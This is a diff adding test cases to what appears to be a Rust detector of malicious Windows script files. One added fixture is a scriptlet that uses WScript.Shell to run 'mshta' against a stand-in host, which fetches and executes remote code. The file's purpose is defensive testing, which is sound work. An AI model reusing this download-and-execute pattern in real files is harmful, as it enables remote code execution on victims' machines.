@@ -70,6 +70,18 @@ mod tests {
                 1,
             ),
             (
+                "a.txt",
+                "<scriptlet><registration progid='a'/><object id='o' progid='WScript.Shell'/><resource id='c'>mshta http://a.test</resource>\
+                <script language='VBScript'>o.Run getResource(\"c\")</script></scriptlet>",
+                1,
+            ),
+            (
+                "a.wsf",
+                "<job><object id='f' progid='Scripting.FileSystemObject'/><resource id='help'>Copies to a share. See http://a.example</resource>\
+                <script language='VBScript'>WScript.Echo getResource(\"help\")</script></job>",
+                0,
+            ),
+            (
                 "a.ps1",
                 "Invoke-WebRequest https://a.example/setup.msi -OutFile setup.msi\nStart-Process setup.msi",
                 0,
